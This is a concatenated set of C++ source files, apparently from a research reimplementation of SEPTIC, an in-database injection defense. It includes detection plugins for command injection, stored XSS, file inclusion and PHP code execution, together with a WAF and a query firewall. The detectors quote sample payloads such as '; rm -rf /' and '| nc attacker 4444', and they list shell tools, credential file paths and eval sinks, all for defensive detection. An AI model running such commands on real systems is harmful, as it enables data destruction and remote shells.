      // corruption shape we can still recognize.
      note_skip(report, line_no, "truncated final line");
      continue;
    }

    size_t tab = record.find('\t');
    if (tab == std::string_view::npos) {
      note_skip(report, line_no, "missing tab");
      continue;
    }
    QueryModel qm;
    if (!QueryModel::deserialize(record.substr(tab + 1), qm)) {
      note_skip(report, line_no, "unparseable model");
      continue;
    }
    add_loaded(std::string(record.substr(0, tab)), std::move(qm));
    ++report.loaded;
  }
  return report;
}

void QmStore::save_to_file(const std::string& path) const {
  std::string data = serialize_v2();
  SEPTIC_FAILPOINT("qm_store.save.io_error");
  SEPTIC_FAILPOINT_HOOK("qm_store.save.partial_write") {
    // Simulate the process dying half-way through writing the temp file:
    // torn bytes land in `.tmp`, the atomic rename never happens, and the
    // previous store file survives untouched.
    common::write_file_raw(path + ".tmp", data.substr(0, data.size() / 2));
    throw common::failpoints::FailpointTriggered("qm_store.save.partial_write");
  }
  common::atomic_write_file(path, data);
}

QmLoadReport QmStore::load_from_file(const std::string& path) {
  SEPTIC_FAILPOINT("qm_store.load.io_error");
  return deserialize_salvage(common::read_file(path));
}

}  // namespace septic::core

// OS command injection plugin. Quick filter on shell metacharacters; deep
// validation confirms a known command name in command position after a
// metacharacter (the pattern of "; rm -rf /", "| nc attacker 4444",
// "`wget x`", "$(curl x)").
#include <array>
#include <cctype>

#include "common/string_util.h"
#include "septic/plugins/plugin.h"

namespace septic::core {

namespace {

constexpr std::array<std::string_view, 30> kShellCommands = {
    "cat",   "ls",     "rm",    "mv",    "cp",     "wget",  "curl",
    "nc",    "netcat", "bash",  "sh",    "zsh",    "ping",  "whoami",
    "id",    "uname",  "chmod", "chown", "kill",   "touch", "echo",
    "python","perl",   "ruby",  "php",   "telnet", "scp",   "find",
    "mail",  "sleep",
};

bool is_command_word(std::string_view word) {
  for (std::string_view cmd : kShellCommands) {
    if (word == cmd) return true;
  }
  // Path-prefixed commands: /bin/sh, /usr/bin/wget.
  if (!word.empty() && word[0] == '/') {
    size_t slash = word.rfind('/');
    return is_command_word(word.substr(slash + 1));
  }
  return false;
}

class OsciPlugin final : public StoredInjectionPlugin {
 public:
  std::string_view name() const override { return "OSCI"; }

  bool quick_check(std::string_view input) const override {
    for (size_t i = 0; i < input.size(); ++i) {
      char c = input[i];
      if (c == ';' || c == '|' || c == '`' || c == '&') return true;
      if (c == '$' && i + 1 < input.size() && input[i + 1] == '(') return true;
      if (c == '\n') return true;  // newline separates shell commands
    }
    return false;
  }

  std::optional<std::string> deep_check(std::string_view input) const override {
    std::string lower = common::to_lower(input);
    // Find each metacharacter; check whether a shell command follows.
    for (size_t i = 0; i < lower.size(); ++i) {
      char c = lower[i];
      bool meta = c == ';' || c == '|' || c == '`' || c == '\n' ||
                  (c == '&' && i + 1 < lower.size() && lower[i + 1] == '&') ||
                  (c == '$' && i + 1 < lower.size() && lower[i + 1] == '(');
      if (!meta) continue;
      size_t j = i + 1;
      if (c == '$' || (c == '&' && j < lower.size() && lower[j] == '&') ||
          (c == '|' && j < lower.size() && lower[j] == '|')) {
        ++j;  // skip second char of $(, &&, ||
      }
      while (j < lower.size() &&
             std::isspace(static_cast<unsigned char>(lower[j]))) {
        ++j;
      }
      size_t start = j;
      while (j < lower.size() &&
             (std::isalnum(static_cast<unsigned char>(lower[j])) ||
              lower[j] == '/' || lower[j] == '_' || lower[j] == '.' ||
              lower[j] == '-')) {
        ++j;
      }
      std::string_view word = std::string_view(lower).substr(start, j - start);
      if (is_command_word(word)) {
        return "shell command '" + std::string(word) +
               "' after metacharacter '" + std::string(1, c) + "'";
      }
    }
    return std::nullopt;
  }
};

}  // namespace

std::unique_ptr<StoredInjectionPlugin> make_osci_plugin() {
  return std::make_unique<OsciPlugin>();
}

}  // namespace septic::core

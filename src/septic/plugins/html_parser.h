// Minimal HTML tokenizer used by the stored-XSS plugin. The paper's plugin
// "inserts this input in a web page and calls an HTML parser" — this is
// that parser: it tokenizes a fragment into tags with attributes and text,
// handling entity decoding, so the plugin can look for script content
// rather than bare angle brackets.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace septic::core::html {

struct Attribute {
  std::string name;   // lower-cased
  std::string value;  // entity-decoded, unquoted
};

struct Tag {
  std::string name;  // lower-cased; empty for malformed tags
  bool closing = false;
  bool self_closing = false;
  std::vector<Attribute> attributes;

  const Attribute* find_attr(std::string_view name) const;
};

struct Fragment {
  std::vector<Tag> tags;
  std::string text;  // concatenated character data (entity-decoded)
};

/// Decode &lt; &gt; &amp; &quot; &#NN; &#xNN; entities.
std::string decode_entities(std::string_view s);

/// Tokenize an HTML fragment. Never throws: malformed markup yields
/// best-effort tags (browsers are forgiving, and so are XSS payloads).
Fragment parse_fragment(std::string_view input);

}  // namespace septic::core::html

// Stored XSS plugin (paper Section II-D2): quick filter on markup
// characters, then precise validation by embedding the input in a page and
// parsing it — an attack is flagged when the parsed fragment contains
// script-capable constructs.
#include <array>

#include "common/string_util.h"
#include "septic/plugins/html_parser.h"
#include "septic/plugins/plugin.h"

namespace septic::core {

namespace {

using common::icontains;

constexpr std::array<std::string_view, 11> kScriptTags = {
    "script", "iframe", "object", "embed", "applet", "form",
    "svg",    "math",   "base",   "link",  "meta",
};

bool is_script_uri(std::string_view value) {
  // Strip whitespace/control characters browsers ignore inside URIs
  // ("jav\tascript:") before scheme matching.
  std::string squeezed;
  for (char c : value) {
    if (static_cast<unsigned char>(c) > 0x20) squeezed += c;
  }
  std::string lower = common::to_lower(squeezed);
  return lower.rfind("javascript:", 0) == 0 || lower.rfind("vbscript:", 0) == 0 ||
         lower.rfind("data:text/html", 0) == 0;
}

class XssPlugin final : public StoredInjectionPlugin {
 public:
  std::string_view name() const override { return "XSS"; }

  bool quick_check(std::string_view input) const override {
    // Characters associated with markup injection, plus entity-encoded
    // angle brackets that will decode to markup when rendered.
    if (input.find('<') != std::string_view::npos) return true;
    if (input.find('>') != std::string_view::npos) return true;
    if (icontains(input, "&lt;") || icontains(input, "&#")) return true;
    if (icontains(input, "javascript:") || icontains(input, "onerror")) {
      return true;
    }
    return false;
  }

  std::optional<std::string> deep_check(std::string_view input) const override {
    // The paper's plugin inserts the input into a web page and parses the
    // page; only the fragment is attacker-controlled, so parsing the
    // fragment (post entity-decode) is equivalent.
    html::Fragment frag = html::parse_fragment(input);
    // Payload may itself be entity-encoded to survive one rendering pass;
    // parse the decoded form too and merge findings.
    std::string decoded = html::decode_entities(input);
    if (decoded != input) {
      html::Fragment inner = html::parse_fragment(decoded);
      for (auto& t : inner.tags) frag.tags.push_back(std::move(t));
    }

    for (const auto& tag : frag.tags) {
      if (tag.closing) continue;
      for (std::string_view bad : kScriptTags) {
        if (tag.name == bad) {
          return "script-capable element <" + tag.name + ">";
        }
      }
      for (const auto& attr : tag.attributes) {
        if (attr.name.size() > 2 && attr.name.rfind("on", 0) == 0) {
          return "event handler attribute '" + attr.name + "' on <" +
                 tag.name + ">";
        }
        if ((attr.name == "href" || attr.name == "src" ||
             attr.name == "action" || attr.name == "formaction" ||
             attr.name == "data" || attr.name == "background") &&
            is_script_uri(attr.value)) {
          return "script URI in '" + attr.name + "' of <" + tag.name + ">";
        }
        if (attr.name == "style" && icontains(attr.value, "expression(")) {
          return "CSS expression() in style attribute";
        }
      }
    }
    return std::nullopt;
  }
};

}  // namespace

std::unique_ptr<StoredInjectionPlugin> make_xss_plugin() {
  return std::make_unique<XssPlugin>();
}

}  // namespace septic::core

#include "septic/plugins/html_parser.h"

#include <cctype>
#include <cstdlib>

#include "common/string_util.h"
#include "common/unicode.h"

namespace septic::core::html {

const Attribute* Tag::find_attr(std::string_view name) const {
  for (const auto& a : attributes) {
    if (a.name == name) return &a;
  }
  return nullptr;
}

std::string decode_entities(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  for (size_t i = 0; i < s.size(); ++i) {
    if (s[i] != '&') {
      out += s[i];
      continue;
    }
    size_t semi = s.find(';', i + 1);
    if (semi == std::string_view::npos || semi - i > 10) {
      out += '&';
      continue;
    }
    std::string_view body = s.substr(i + 1, semi - i - 1);
    if (body == "lt") {
      out += '<';
    } else if (body == "gt") {
      out += '>';
    } else if (body == "amp") {
      out += '&';
    } else if (body == "quot") {
      out += '"';
    } else if (body == "apos" || body == "#39") {
      out += '\'';
    } else if (!body.empty() && body[0] == '#') {
      char32_t cp = 0;
      bool ok = false;
      if (body.size() > 1 && (body[1] == 'x' || body[1] == 'X')) {
        cp = static_cast<char32_t>(
            std::strtoul(std::string(body.substr(2)).c_str(), nullptr, 16));
        ok = body.size() > 2;
      } else {
        cp = static_cast<char32_t>(
            std::strtoul(std::string(body.substr(1)).c_str(), nullptr, 10));
        ok = body.size() > 1;
      }
      if (ok && cp > 0 && cp <= 0x10ffff) {
        out += common::encode_utf8(cp);
      } else {
        out += '&';
        continue;
      }
    } else {
      out += '&';
      continue;
    }
    i = semi;
  }
  return out;
}

Fragment parse_fragment(std::string_view input) {
  Fragment frag;
  size_t i = 0;
  const size_t n = input.size();
  while (i < n) {
    if (input[i] != '<') {
      size_t lt = input.find('<', i);
      if (lt == std::string_view::npos) lt = n;
      frag.text += decode_entities(input.substr(i, lt - i));
      i = lt;
      continue;
    }
    // Comment?
    if (input.substr(i, 4) == "<!--") {
      size_t end = input.find("-->", i + 4);
      i = (end == std::string_view::npos) ? n : end + 3;
      continue;
    }
    // Tag.
    size_t j = i + 1;
    Tag tag;
    if (j < n && input[j] == '/') {
      tag.closing = true;
      ++j;
    }
    size_t name_start = j;
    while (j < n && (std::isalnum(static_cast<unsigned char>(input[j])) ||
                     input[j] == '-' || input[j] == ':')) {
      ++j;
    }
    if (j == name_start) {
      // Not a real tag ("a < b"); treat '<' as text.
      frag.text += '<';
      ++i;
      continue;
    }
    tag.name = common::to_lower(input.substr(name_start, j - name_start));
    // Attributes until '>' (or end; browsers tolerate unterminated tags,
    // and XSS payloads exploit that, so we do too).
    while (j < n && input[j] != '>') {
      while (j < n && (std::isspace(static_cast<unsigned char>(input[j])) ||
                       input[j] == '/')) {
        if (input[j] == '/') tag.self_closing = true;
        ++j;
      }
      if (j >= n || input[j] == '>') break;
      size_t attr_start = j;
      while (j < n && input[j] != '=' && input[j] != '>' &&
             !std::isspace(static_cast<unsigned char>(input[j])) &&
             input[j] != '/') {
        ++j;
      }
      Attribute attr;
      attr.name = common::to_lower(input.substr(attr_start, j - attr_start));
      if (j < n && input[j] == '=') {
        ++j;
        while (j < n && std::isspace(static_cast<unsigned char>(input[j]))) ++j;
        if (j < n && (input[j] == '"' || input[j] == '\'')) {
          char q = input[j];
          ++j;
          size_t v_start = j;
          while (j < n && input[j] != q) ++j;
          attr.value = decode_entities(input.substr(v_start, j - v_start));
          if (j < n) ++j;
        } else {
          size_t v_start = j;
          while (j < n && input[j] != '>' &&
                 !std::isspace(static_cast<unsigned char>(input[j]))) {
            ++j;
          }
          attr.value = decode_entities(input.substr(v_start, j - v_start));
        }
      }
      if (!attr.name.empty()) tag.attributes.push_back(std::move(attr));
    }
    if (j < n) ++j;  // consume '>'
    frag.tags.push_back(std::move(tag));
    i = j;
  }
  return frag;
}

}  // namespace septic::core::html

// Stored-injection plugin interface (paper Sections II-A, II-C3): plugins
// are "executed on the fly to deal with specific attacks before data is
// inserted in the database". Each plugin implements the two-step protocol:
//
//   quick_check — a lightweight filter over the input for characters or
//     substrings associated with the attack class ('<'/'>' for XSS, "../"
//     or "://" for file inclusion, ...). Cheap; runs on every value.
//   deep_check — a precise, more expensive validation run only when the
//     quick check fires; returns a finding description when the attack is
//     confirmed, nullopt otherwise.
#pragma once

#include <memory>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace septic::core {

class StoredInjectionPlugin {
 public:
  virtual ~StoredInjectionPlugin() = default;

  /// Short attack-class name: "XSS", "RFI/LFI", "OSCI", "RCE".
  virtual std::string_view name() const = 0;

  virtual bool quick_check(std::string_view input) const = 0;
  virtual std::optional<std::string> deep_check(std::string_view input) const = 0;
};

/// The default plugin battery (all four classes from the paper).
std::vector<std::unique_ptr<StoredInjectionPlugin>> make_default_plugins();

std::unique_ptr<StoredInjectionPlugin> make_xss_plugin();
std::unique_ptr<StoredInjectionPlugin> make_fileinc_plugin();
std::unique_ptr<StoredInjectionPlugin> make_osci_plugin();
std::unique_ptr<StoredInjectionPlugin> make_rce_plugin();

}  // namespace septic::core

// Remote / local file inclusion plugin (RFI and LFI). Quick filter on path
// and URL markers; precise validation distinguishes:
//  - RFI: a URL with a remote or code-execution scheme (http, https, ftp,
//    data, expect) or a PHP stream wrapper that fetches/executes
//    (php://input, php://filter, zip://, phar://);
//  - LFI: path traversal escaping the document root ("../" chains, also in
//    percent-encoded or null-byte-truncated form) or direct absolute paths
//    to sensitive files.
#include <array>

#include "common/string_util.h"
#include "common/unicode.h"
#include "septic/plugins/plugin.h"

namespace septic::core {

namespace {

using common::icontains;

constexpr std::array<std::string_view, 8> kSensitivePaths = {
    "/etc/passwd", "/etc/shadow",  "/proc/self",      "/etc/hosts",
    "c:\\windows", "c:/windows",   "/var/log/",       "boot.ini",
};

class FileIncPlugin final : public StoredInjectionPlugin {
 public:
  std::string_view name() const override { return "RFI/LFI"; }

  bool quick_check(std::string_view input) const override {
    return icontains(input, "://") || icontains(input, "../") ||
           icontains(input, "..\\") || icontains(input, "%2e%2e") ||
           icontains(input, "%252e") ||  // double-encoded traversal
           icontains(input, "/etc/") || icontains(input, "php://") ||
           icontains(input, "%00") || icontains(input, "c:\\") ||
           icontains(input, "boot.ini");
  }

  std::optional<std::string> deep_check(std::string_view input) const override {
    // Decode percent-encoding until it stabilizes (max 3 layers): WAFs
    // decode once, PHP applications often decode again — double encoding
    // is the classic way to slip traversal past the first decoder.
    std::string decoded(input);
    for (int layer = 0; layer < 3; ++layer) {
      std::string next =
          common::url_decode(decoded, /*plus_as_space=*/false);
      if (next == decoded) break;
      decoded = std::move(next);
    }
    std::string lower = common::to_lower(decoded);

    // RFI: wrapper/exec schemes are attacks outright — there is no benign
    // reason to store them as data destined for include()-style sinks.
    static constexpr std::array<std::string_view, 6> kWrapperSchemes = {
        "data://", "expect://", "zip://", "phar://", "ogg://", "glob://",
    };
    for (std::string_view scheme : kWrapperSchemes) {
      if (lower.find(scheme) != std::string::npos) {
        return "stream wrapper inclusion '" + std::string(scheme) + "...'";
      }
    }
    if (lower.find("php://") != std::string::npos) {
      return "PHP stream wrapper inclusion";
    }
    // Fetch schemes appear in plenty of honest data ("my homepage:
    // https://..."); treat as RFI only when the target smells like a code
    // payload: script extension, query string on a script, or an IP-literal
    // host (attacker drop boxes rarely have DNS).
    static constexpr std::array<std::string_view, 4> kFetchSchemes = {
        "http://", "https://", "ftp://", "ftps://",
    };
    for (std::string_view scheme : kFetchSchemes) {
      if (size_t pos = lower.find(scheme); pos != std::string::npos) {
        std::string_view rest = std::string_view(lower).substr(pos);
        if (rest.find(".php") != std::string_view::npos ||
            rest.find(".txt?") != std::string_view::npos ||
            looks_like_ip(rest)) {
          return "remote inclusion target '" + std::string(scheme) + "...'";
        }
      }
    }

    // LFI: traversal chains. One "../" occurs in benign relative paths;
    // two or more, or traversal reaching a sensitive file, is an attack.
    size_t traversals = 0;
    for (size_t pos = 0;;) {
      size_t hit = lower.find("../", pos);
      size_t hit2 = lower.find("..\\", pos);
      size_t next = std::min(hit, hit2);
      if (next == std::string::npos) break;
      ++traversals;
      pos = next + 3;
    }
    if (traversals >= 2) {
      return "path traversal chain (" + std::to_string(traversals) +
             " levels)";
    }
    for (std::string_view path : kSensitivePaths) {
      if (lower.find(path) != std::string::npos) {
        return "sensitive file path '" + std::string(path) + "'";
      }
    }
    // Null-byte truncation of an appended extension.
    if (decoded.find('\0') != std::string::npos && traversals >= 1) {
      return "null-byte truncated traversal";
    }
    return std::nullopt;
  }

 private:
  static bool looks_like_ip(std::string_view s) {
    // Scheme-prefixed host beginning with a digit triple.
    size_t pos = s.find("//");
    if (pos == std::string_view::npos) return false;
    size_t i = pos + 2;
    int dots = 0, digits = 0;
    while (i < s.size() && (s[i] == '.' || (s[i] >= '0' && s[i] <= '9'))) {
      if (s[i] == '.') {
        ++dots;
      } else {
        ++digits;
      }
      ++i;
    }
    return dots == 3 && digits >= 4;
  }
};

}  // namespace

std::unique_ptr<StoredInjectionPlugin> make_fileinc_plugin() {
  return std::make_unique<FileIncPlugin>();
}

}  // namespace septic::core

// Remote code execution plugin: PHP code evaluation sinks and PHP object
// injection (unsafe deserialization) payloads stored into the database.
#include <array>
#include <cctype>

#include "common/string_util.h"
#include "septic/plugins/plugin.h"

namespace septic::core {

namespace {

using common::icontains;

constexpr std::array<std::string_view, 12> kEvalSinks = {
    "eval(",          "assert(",        "system(",       "exec(",
    "shell_exec(",    "passthru(",      "popen(",        "proc_open(",
    "call_user_func", "create_function","preg_replace(", "include(",
};

/// Matches a PHP serialized object/array prefix: O:4:"Evil", a:2:{...},
/// s:5:"...";  — the payload shape of PHP object injection.
bool looks_like_php_serialized(std::string_view s) {
  for (size_t i = 0; i + 3 < s.size(); ++i) {
    char c = s[i];
    if ((c == 'O' || c == 'a' || c == 's') && s[i + 1] == ':' &&
        std::isdigit(static_cast<unsigned char>(s[i + 2]))) {
      size_t j = i + 2;
      while (j < s.size() && std::isdigit(static_cast<unsigned char>(s[j]))) {
        ++j;
      }
      if (j < s.size() && s[j] == ':') {
        // O:len:"Name" / s:len:"body" / a:count:{
        if (c == 'a' && j + 1 < s.size() && s[j + 1] == '{') return true;
        if ((c == 'O' || c == 's') && j + 1 < s.size() && s[j + 1] == '"') {
          return true;
        }
      }
    }
  }
  return false;
}

class RcePlugin final : public StoredInjectionPlugin {
 public:
  std::string_view name() const override { return "RCE"; }

  bool quick_check(std::string_view input) const override {
    if (input.find('(') != std::string_view::npos &&
        (icontains(input, "eval") || icontains(input, "exec") ||
         icontains(input, "system") || icontains(input, "assert") ||
         icontains(input, "passthru") || icontains(input, "popen") ||
         icontains(input, "call_user_func") ||
         icontains(input, "create_function") ||
         icontains(input, "preg_replace") || icontains(input, "include"))) {
      return true;
    }
    if (icontains(input, "base64_decode")) return true;
    if (icontains(input, "<?php") || icontains(input, "<?=")) return true;
    if (input.find(":{") != std::string_view::npos ||
        input.find(":\"") != std::string_view::npos) {
      return true;  // possible serialized payload; deep check decides
    }
    return false;
  }

  std::optional<std::string> deep_check(std::string_view input) const override {
    std::string lower = common::to_lower(input);
    for (std::string_view sink : kEvalSinks) {
      if (size_t pos = lower.find(sink); pos != std::string::npos) {
        // preg_replace is RCE only with the /e modifier.
        if (sink == "preg_replace(") {
          if (lower.find("/e'") == std::string::npos &&
              lower.find("/e\"") == std::string::npos &&
              lower.find("/e,") == std::string::npos) {
            continue;
          }
        }
        return "PHP evaluation sink '" + std::string(sink) + "...)'";
      }
    }
    if (lower.find("<?php") != std::string::npos ||
        lower.find("<?=") != std::string::npos) {
      return "embedded PHP code tag";
    }
    if (lower.find("base64_decode") != std::string::npos &&
        lower.find('(') != std::string::npos) {
      return "base64-wrapped code evaluation";
    }
    if (looks_like_php_serialized(input)) {
      return "PHP serialized object payload";
    }
    return std::nullopt;
  }
};

}  // namespace

std::unique_ptr<StoredInjectionPlugin> make_rce_plugin() {
  return std::make_unique<RcePlugin>();
}

std::vector<std::unique_ptr<StoredInjectionPlugin>> make_default_plugins() {
  std::vector<std::unique_ptr<StoredInjectionPlugin>> out;
  out.push_back(make_xss_plugin());
  out.push_back(make_fileinc_plugin());
  out.push_back(make_osci_plugin());
  out.push_back(make_rce_plugin());
  return out;
}

}  // namespace septic::core

// Query identifier generation, paper Section II-C2.
//
// The ID composes two identifier types:
//  - an *external* identifier, optionally supplied by the application or
//    server-side language engine inside a block comment appended to the
//    query:   SELECT ... /* ID:checkout.php:42 */
//  - an *internal* identifier created by SEPTIC itself.
//
// The internal identifier must be attack-invariant: it is derived from the
// parts of the model an injection cannot change without changing which
// application query this is — the statement kind, the primary table, and
// the target fields (select list / insert columns / update columns). The
// WHERE clause and UNION arms are deliberately excluded so that a
// structural attack still maps to the learned model and is *compared*
// against it (and flagged), rather than landing on a fresh ID and being
// mistaken for a new query. Distinct queries that collide on an internal
// ID are handled by the QM store keeping a set of models per ID.
#pragma once

#include <optional>
#include <string>

#include "sqlcore/item.h"
#include "sqlcore/parser.h"

namespace septic::core {

/// Marker prefix our SSLE shim uses inside block comments.
inline constexpr const char* kExternalIdPrefix = "ID:";

struct QueryId {
  std::string external;  // empty when the application supplied none
  std::string internal;

  /// The composed identifier used as the QM-store key.
  std::string composed() const {
    return external.empty() ? internal : external + "#" + internal;
  }
  bool operator==(const QueryId&) const = default;
};

class IdGenerator {
 public:
  /// Extract the external identifier, if any, from the query's comments
  /// (first block comment whose trimmed body starts with kExternalIdPrefix;
  /// the SSLE prepends it, so later — possibly injected — comments lose).
  static std::optional<std::string> external_id(const sql::ParsedQuery& query);

  /// Compute the internal identifier from the statement.
  static std::string internal_id(const sql::Statement& stmt);

  /// Full ID for a parsed query.
  static QueryId generate(const sql::ParsedQuery& query);
};

}  // namespace septic::core

// SEPTIC operation modes and detection toggles (paper Section II-E,
// Table I).
#pragma once

#include <cstdint>
#include <string>

namespace septic::core {

/// Training: build and store query models, never detect, always execute.
/// Prevention: detect, log, and DROP attacking queries.
/// Detection: detect and log attacks but let the queries execute.
enum class Mode { kTraining, kPrevention, kDetection };

inline const char* mode_name(Mode m) {
  switch (m) {
    case Mode::kTraining: return "TRAINING";
    case Mode::kPrevention: return "PREVENTION";
    case Mode::kDetection: return "DETECTION";
  }
  return "?";
}

/// What happens to a query when SEPTIC *itself* fails (a detector or
/// plugin throws, the model store misbehaves): fail-closed drops the query
/// (protection over availability), fail-open executes it (availability
/// over protection). Either way the failure is logged and counted — an
/// in-path defense must never take the database down with it, and must be
/// explicit about which way it fails.
enum class FailPolicy { kFailClosed, kFailOpen };

inline const char* fail_policy_name(FailPolicy p) {
  switch (p) {
    case FailPolicy::kFailClosed: return "FAIL_CLOSED";
    case FailPolicy::kFailOpen: return "FAIL_OPEN";
  }
  return "?";
}

struct Config {
  Mode mode = Mode::kTraining;

  /// Monotonic snapshot counter, bumped by Septic::update_config on every
  /// published change. Living inside the snapshot (rather than in a
  /// separate atomic) means a reader always sees a mutually consistent
  /// {settings, epoch} pair; the digest cache tags cached verdicts with it
  /// so any config change — mode flip, detector toggle — invalidates them.
  uint64_t epoch = 0;

  /// Disposition of queries when SEPTIC hits an internal error. The
  /// conservative default drops them (kFailClosed).
  FailPolicy fail_policy = FailPolicy::kFailClosed;

  /// The Fig. 5 evaluation toggles: SQLI detection (YN/YY) and stored-
  /// injection detection (NY/YY). Both off = NN (SEPTIC infrastructure
  /// still runs: QS construction, ID generation, model lookup).
  bool detect_sqli = true;
  bool detect_stored = true;

  /// In normal mode, unknown query IDs trigger incremental learning: the
  /// model is created, stored and logged for later admin review (paper
  /// Section II-E). When false, unknown queries are treated as attacks in
  /// prevention mode (strict deployments).
  bool incremental_learning = true;

  /// Require exact data-type equality between QS and QM data nodes
  /// (INT_ITEM vs DECIMAL_ITEM becomes a mismatch). Stricter than the
  /// default numeric-compatible comparison; `bench/ablation_strictness`
  /// measures what it costs in false positives on benign numeric inputs.
  bool strict_numeric_types = false;

  /// Poisoned-transaction containment: when a statement is blocked inside
  /// an open multi-statement transaction, ask the engine to roll the whole
  /// transaction back (InterceptDecision::abort_txn). Off by default — the
  /// historical behavior drops only the offending statement and leaves the
  /// transaction open.
  bool abort_txn_on_block = false;

  /// Record a QUERY_PROCESSED event for every benign query. The paper's
  /// logger registers only attacks and new models; per-query events are an
  /// observability extra that the demos/tests enjoy and the performance
  /// benches turn off.
  bool log_processed_queries = true;
};

}  // namespace septic::core

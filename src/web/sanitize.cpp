#include "web/sanitize.h"

#include <cctype>
#include <cstdlib>

#include "sqlcore/value.h"

namespace septic::web::php {

std::string mysql_real_escape_string(std::string_view s) {
  std::string out;
  out.reserve(s.size() + 8);
  for (char c : s) {
    switch (c) {
      case '\0': out += "\\0"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\\': out += "\\\\"; break;
      case '\'': out += "\\'"; break;
      case '"': out += "\\\""; break;
      case '\x1a': out += "\\Z"; break;
      default: out += c;
    }
  }
  return out;
}

std::string addslashes(std::string_view s) {
  std::string out;
  out.reserve(s.size() + 8);
  for (char c : s) {
    switch (c) {
      case '\0': out += "\\0"; break;
      case '\\': out += "\\\\"; break;
      case '\'': out += "\\'"; break;
      case '"': out += "\\\""; break;
      default: out += c;
    }
  }
  return out;
}

int64_t intval(std::string_view s) {
  return static_cast<int64_t>(sql::numeric_prefix(s, /*allow_fraction=*/false));
}

double floatval(std::string_view s) {
  return sql::numeric_prefix(s, /*allow_fraction=*/true);
}

bool is_numeric(std::string_view s) {
  size_t i = 0;
  while (i < s.size() && std::isspace(static_cast<unsigned char>(s[i]))) ++i;
  if (i >= s.size()) return false;
  if (s[i] == '+' || s[i] == '-') ++i;
  bool digits = false, dot = false, exp = false;
  size_t mantissa_digits = 0;
  for (; i < s.size(); ++i) {
    char c = s[i];
    if (std::isdigit(static_cast<unsigned char>(c))) {
      digits = true;
      if (!exp) ++mantissa_digits;
      continue;
    }
    if (c == '.' && !dot && !exp) {
      dot = true;
      continue;
    }
    if ((c == 'e' || c == 'E') && !exp && digits) {
      exp = true;
      if (i + 1 < s.size() && (s[i + 1] == '+' || s[i + 1] == '-')) ++i;
      digits = false;  // require digits after the exponent
      continue;
    }
    return false;
  }
  (void)mantissa_digits;
  return digits;
}

std::string htmlspecialchars(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  for (char c : s) {
    switch (c) {
      case '&': out += "&amp;"; break;
      case '<': out += "&lt;"; break;
      case '>': out += "&gt;"; break;
      case '"': out += "&quot;"; break;
      case '\'': out += "&#039;"; break;
      default: out += c;
    }
  }
  return out;
}

std::string strip_tags(std::string_view s) {
  std::string out;
  bool in_tag = false;
  for (char c : s) {
    if (c == '<') {
      in_tag = true;
      continue;
    }
    if (c == '>') {
      in_tag = false;
      continue;
    }
    if (!in_tag) out += c;
  }
  return out;
}

}  // namespace septic::web::php

// GreenSQL-style learning database firewall ("SQL proxies or database
// firewalls, operating between the application and the DBMS, filtering the
// queries" — paper Section I).
//
// The proxy never parses like the server does: it normalizes the raw query
// *text* into a fingerprint (literals -> ?, whitespace compressed, comments
// stripped, lowercased) and, in protect mode, drops queries whose
// fingerprint was not learned. Its structural blind spot — reproduced
// faithfully here — is that normalization happens on the bytes the
// application sent: a U+02BC hidden inside a quoted literal still looks
// like a literal, even though MySQL will decode it into a quote and change
// the statement's shape.
#pragma once

#include <cstdint>
#include <mutex>
#include <string>
#include <string_view>
#include <unordered_set>
#include <vector>

namespace septic::web {

class QueryFirewall {
 public:
  enum class Mode { kLearning, kProtect };

  /// Normalize a query's text into its fingerprint.
  static std::string fingerprint(std::string_view sql);

  /// Percona pt-fingerprint-style digest: like fingerprint(), but runs of
  /// placeholders are additionally collapsed — `in (?, ?, ?)` -> `in (?+)`
  /// and multi-row `values (?, ?), (?, ?)` -> `values (?+)` — so queries
  /// that differ only in list arity share one digest. Coarser than
  /// fingerprint(): fewer entries to learn, but it also accepts arity
  /// changes an attacker can cause (paper Section II-B groups GreenSQL and
  /// Percona Tools as the same class of learning tools).
  static std::string digest(std::string_view sql);

  /// Switch the firewall between exact fingerprints (GreenSQL-like,
  /// default) and collapsed digests (Percona-like). Clears nothing; call
  /// clear() when switching modes mid-run.
  void set_digest_mode(bool on);
  bool digest_mode() const;

  Mode mode() const;
  void set_mode(Mode m);

  /// Learning-mode ingestion (also callable directly for test setup).
  void learn(std::string_view sql);

  /// True when the query may pass. In learning mode every query passes and
  /// is learned; in protect mode only known fingerprints pass.
  bool check(std::string_view sql);

  size_t fingerprint_count() const;
  uint64_t blocked_count() const;
  void clear();

 private:
  std::string normalize(std::string_view sql) const;

  mutable std::mutex mu_;
  Mode mode_ = Mode::kLearning;
  bool digest_mode_ = false;
  std::unordered_set<std::string> known_;
  uint64_t blocked_ = 0;
};

}  // namespace septic::web

#include "web/waf/waf.h"

namespace septic::web::waf {

Waf::Waf() : Waf(make_crs_rules(), /*inbound_threshold=*/5) {}

Waf::Waf(std::vector<Rule> rules, int inbound_threshold)
    : rules_(std::move(rules)), threshold_(inbound_threshold) {}

WafDecision Waf::inspect(const Request& request) const {
  WafDecision d;
  if (!enabled_) return d;

  for (const Rule& rule : rules_) {
    std::vector<std::string> values;
    switch (rule.target) {
      case RuleTarget::kArgs:
        for (const auto& [k, v] : request.params) values.push_back(v);
        break;
      case RuleTarget::kArgNames:
        for (const auto& [k, v] : request.params) values.push_back(k);
        break;
      case RuleTarget::kPath:
        values.push_back(request.path);
        break;
      case RuleTarget::kRawQuery:
        values.push_back(request.encoded_params());
        break;
    }
    for (const std::string& raw : values) {
      std::string transformed = apply_transforms(rule.transforms, raw);
      if (std::regex_search(transformed, rule.re)) {
        d.anomaly_score += rule.anomaly_score;
        d.matches.push_back({rule.id, rule.msg, rule.tag, transformed});
        break;  // one match per rule, like ModSecurity's per-rule semantics
      }
    }
  }
  d.blocked = d.anomaly_score >= threshold_;
  return d;
}

void Waf::audit(const Request& request, const WafDecision& decision) {
  std::lock_guard lock(mu_);
  audit_log_.push_back({request.to_string(), decision});
}

std::vector<Waf::AuditEntry> Waf::audit_log() const {
  std::lock_guard lock(mu_);
  return audit_log_;
}

void Waf::clear_audit_log() {
  std::lock_guard lock(mu_);
  audit_log_.clear();
}

}  // namespace septic::web::waf

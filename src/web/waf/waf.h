// ModSecurity-lite web application firewall with CRS-style anomaly scoring:
// every matching rule adds its score; the request is blocked when the total
// reaches the inbound threshold (CRS default: 5 — one critical match
// blocks). Sits in front of the application (paper Section III: "integrated
// in the Apache web server and checks the requests incoming from the
